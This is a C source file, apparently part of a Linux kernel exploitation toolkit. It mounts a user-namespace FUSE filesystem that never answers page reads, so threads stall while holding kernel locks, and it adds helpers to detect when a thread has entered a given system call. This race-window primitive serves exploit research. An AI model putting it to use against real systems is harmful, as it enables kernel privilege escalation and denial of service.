/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Memory whose page never comes: mapped from a FUSE of our own, which answers all requests but those for the content of
 * its one file. A thread that reads or writes there waits with all locks that it holds, and so do all that want these.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#define SIZE 4096
#define FOREVER 1000000

static char *unanswered;
static int asked[2]; /* a pipe: one byte for each read request that is not answered */

static void answer(int device, const struct fuse_in_header *request, const void *data, size_t size)
{
	struct fuse_out_header header = {
		.len = sizeof(header) + size, .unique = request->unique, .error = size ? 0 : -ENOSYS};
	char out[256];

	memcpy(out, &header, sizeof(header));
	memcpy(out + sizeof(header), data, size);
	if (write(device, out, header.len) < 0)
		exit(1);
}

static struct fuse_attr describe(uint64_t inode)
{
	return (struct fuse_attr){
		.ino = inode, .size = SIZE, .nlink = 1, .mode = (inode == 1 ? S_IFDIR : S_IFREG) | 0755};
}

/* Answers all requests but FUSE_READ. */
static void serve(int device)
{
	static char in[1 << 17];
	struct fuse_in_header *request = (void *)in;
	struct fuse_init_out hello = {.major = 7, .minor = 31, .max_write = SIZE};
	struct fuse_entry_out entry = {.nodeid = 2, .attr_valid = FOREVER, .entry_valid = FOREVER, .attr = describe(2)};
	struct fuse_attr_out attributes = {.attr_valid = FOREVER};
	struct fuse_open_out opened = {};

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (read(device, in, sizeof(in)) > 0) {
		attributes.attr = describe(request->nodeid);
		if (request->opcode == FUSE_INIT)
			answer(device, request, &hello, sizeof(hello));
		else if (request->opcode == FUSE_LOOKUP)
			answer(device, request, &entry, sizeof(entry));
		else if (request->opcode == FUSE_GETATTR)
			answer(device, request, &attributes, sizeof(attributes));
		else if (request->opcode == FUSE_OPEN)
			answer(device, request, &opened, sizeof(opened));
		else if (request->opcode != FUSE_READ)
			answer(device, request, in, 0);
		else if (write(asked[1], "", 1) != 1)
			exit(1);
	}
	exit(0);
}

static int write_to(const char *path, const char *text)
{
	int file = open(path, O_WRONLY);

	return write(file, text, strlen(text)) < 0 || close(file);
}

static int mount_it(const char *fuse, const char *folder)
{
	char options[80], user[40], group[40];
	int device;

	snprintf(user, sizeof(user), "0 %d 1", getuid());
	snprintf(group, sizeof(group), "0 %d 1", getgid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || write_to("/proc/self/setgroups", "deny") ||
	    write_to("/proc/self/uid_map", user) || write_to("/proc/self/gid_map", group))
		return -1;
	device = open(fuse, O_RDWR);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
	return mount("attack", folder, "fuse", MS_NOSUID | MS_NODEV, options) ? -1 : device;
}

static int connect_to(const char *address, const char *port)
{
	struct sockaddr_in remote = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
	int used = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	inet_pton(AF_INET, address, &remote.sin_addr);
	return connect(used, (struct sockaddr *)&remote, sizeof(remote)) && errno != EINPROGRESS;
}

/* Maps the memory; NULL on failure. The caller is in a mount namespace of its own then, and in the FUSE's folder. */
static char *map_unanswered(const char *fuse, const char *folder)
{
	int device = mount_it(fuse, folder);

	if (device < 0 || pipe(asked))
		return NULL;
	if (fork() == 0)
		serve(device);
	close(device); /* only the server has it then: when that ends, the FUSE does, and so do all waits for it */
	if (chdir(folder))
		return NULL;
	unanswered = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE, open("file", O_RDONLY), 0);
	return unanswered == MAP_FAILED ? NULL : unanswered;
}

/* Waits until a thread has asked for the content, and so waits with its locks. */
static void wait_asked(void)
{
	char byte;

	if (read(asked[0], &byte, 1) != 1)
		exit(1);
}

/* For wait_within(): the file that tells the calling thread's system call. */
static int open_own_call(void)
{
	return open("/proc/thread-self/syscall", O_RDONLY);
}

/* Waits until the thread is in this system call (proc_pid_syscall(5)). Allocates nothing: that might wait, too. */
static void wait_within(volatile int *call, int number)
{
	char text[16] = "";

	while (*call <= 0 || pread(*call, text, sizeof(text) - 1, 0) <= 0 || atoi(text) != number)
		usleep(1000);
}
